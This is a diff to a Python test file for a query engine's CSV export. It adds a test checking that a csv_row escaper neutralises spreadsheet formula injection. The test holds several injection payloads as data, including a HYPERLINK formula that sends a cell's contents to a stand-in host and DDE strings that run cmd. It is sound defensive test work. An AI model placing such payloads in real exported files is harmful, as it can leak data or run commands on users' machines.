@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 import views
+from engine.query.cells import Plain, csv_row
 from engine.query.export import ExportRequest, ExportSnapshot, Format
 from engine.query.payload import Shape
 from engine.query.selected import SelectedRequest, SelectedSnapshot
@@ -45,6 +46,14 @@ def test_csv_and_json_hold_every_row_with_exact_numbers(store: Store, tmp_path: 
     assert len(rows) == len(objects) == told.rows == table.total
     assert [list(each) for each in objects] == [titles] * len(objects)
     assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o600
+
+
+def test_a_process_cannot_name_itself_a_formula_that_acts_in_a_spreadsheet() -> None:
+    acting = ['=HYPERLINK("http://x/?"&A1,"y")', "=cmd|' /C calc'!A0", "+1+f(2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)"]
+    assert csv_row(acting) == [f"'{text}" for text in acting]
+    plain: list[Plain] = ["-bash", "@/tmp/.X11-unix", "+x", "=1", "nginx: worker (1)", "", -5, 1.5, None, True]
+    assert csv_row(plain) == plain
+    assert csv_row([[1, 0, 3]]) == ["1 0 3"]
 
 
 def test_a_file_that_is_there_is_not_overwritten(store: Store, tmp_path: Path) -> None:
